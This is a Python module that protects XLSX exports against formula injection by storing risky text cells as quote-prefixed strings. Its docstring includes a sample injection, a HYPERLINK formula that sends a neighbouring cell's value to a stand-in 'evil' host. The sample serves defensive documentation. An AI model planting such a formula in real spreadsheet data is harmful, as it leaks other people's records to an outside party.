"""Formula injection: citizen text such as `=HYPERLINK("http://evil/?"&B2, "details")` in a workbook cell
would run as a formula when staff open the export (and could send other rows out). Every XLSX we write goes
through `append_row`: a text cell starting with = + - @ (or a tab / carriage return before one) is stored as
text with Excel's quote prefix, so it shows exactly what was typed and never calculates. The value itself is
unchanged, so a workbook read back (e.g. a re-imported catalogue) gives the same text."""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl is imported where a workbook is written, not at start-up
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def protect(cell: Cell) -> None:
    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
        cell.data_type = "s"
        cell.quotePrefix = True


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        protect(cell)
